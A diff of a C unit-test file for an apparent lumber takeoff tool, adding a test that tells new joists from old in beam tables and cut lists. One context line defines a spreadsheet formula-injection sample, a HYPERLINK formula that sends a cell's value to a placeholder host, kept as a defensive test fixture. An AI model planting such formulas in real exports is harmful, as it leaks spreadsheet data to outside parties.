@@ -36,6 +36,13 @@ static bool says(const struct field_part *part, enum field_is is, const char *wh
     return false;
 }
 
+static char *replaced(struct arena *arena, const char *text, const char *old, const char *new)
+{
+    const char *at = strstr(text, old);
+    assert_non_null(at);
+    return arena_printf(arena, "%.*s%s%s", (int)(at - text), text, new, at + strlen(old));
+}
+
 static struct field field_of_sample(struct arena *arena, const char *name)
 {
     struct report report = report_of(run_sample(arena, name));
@@ -205,6 +212,29 @@ static void shows_what_is_in_the_way(void **state)
     assert_true(headers);
 }
 
+/* At 31 in, between those at 23 and 39 in: a new one, which no load rests on and which is cut to the cut list. */
+static void new_joists_are_told_from_old(void **state)
+{
+    char *text = replaced(*state, read_sample(*state, "parlor.ini"), "run = 11 ft 3 in\n",
+                          "run = 11 ft 3 in\nnew at = 31 in\nnew beside = 55 in\nnew of = DFL2-2X10\n");
+    struct report report = report_of(run_text(*state, "parlor.ini", text));
+    struct field field = field_of(*state, &report);
+    const struct field_table *joists = table_of(part_of_beam(&field, "beam parlor", "joists"), "joists");
+    assert_int_equal(joists->rows, 17);
+    assert_near(joists->row[2][2].number, 31, 1e-9);
+    assert_string_equal(joists->row[2][3].text, "new, 1-1/2\" x 9-1/4\"");
+    assert_true(isnan(joists->row[2][4].number));
+    assert_true(isnan(joists->row[2][6].number));
+    assert_near(joists->row[4][2].number, 55, 1e-9);
+    assert_string_equal(joists->row[4][3].text, "old + new, 1-1/2\" x 9-1/4\"");
+    assert_near(joists->row[4][4].number, 132.6875, 1e-9);
+    const struct field_table *pieces = table_of(part_of_beam(&field, "beam parlor", "posts"), "pieces");
+    bool listed = false;
+    for (size_t i = 0; i < pieces->rows; i++)
+        listed |= !strcmp(pieces->row[i][0].text, "new joist");
+    assert_true(listed);
+}
+
 /* A row of a table whose columns are what, where and count holds the line. */
 static bool table_shows(const struct field_table *table, size_t count_column, const struct takeoff_line *line)
 {
@@ -291,13 +321,6 @@ static void every_beam_begins_a_page(void **state)
     assert_int_equal(titles, 3);
     for (size_t k = 1; k < page->break_count; k++)
         assert_true(page->breaks[k] > page->breaks[k - 1] + 2);
-}
-
-static char *replaced(struct arena *arena, const char *text, const char *old, const char *new)
-{
-    const char *at = strstr(text, old);
-    assert_non_null(at);
-    return arena_printf(arena, "%.*s%s%s", (int)(at - text), text, new, at + strlen(old));
 }
 
 static const char HOSTILE[] = "=HYPERLINK(\"http://x/?\"&A1,\"ok\")";
@@ -417,6 +440,7 @@ int main(void)
         cmocka_unit_test_setup_teardown(json_has_marks_and_cut_lines, support_setup, support_teardown),
         cmocka_unit_test_setup_teardown(hang_order_stays_level, support_setup, support_teardown),
         cmocka_unit_test_setup_teardown(shows_what_is_in_the_way, support_setup, support_teardown),
+        cmocka_unit_test_setup_teardown(new_joists_are_told_from_old, support_setup, support_teardown),
         cmocka_unit_test_setup_teardown(nothing_counted_is_left_out, support_setup, support_teardown),
         cmocka_unit_test_setup_teardown(sheet_has_no_money_and_no_formula, support_setup, support_teardown),
         cmocka_unit_test_setup_teardown(every_beam_begins_a_page, support_setup, support_teardown),
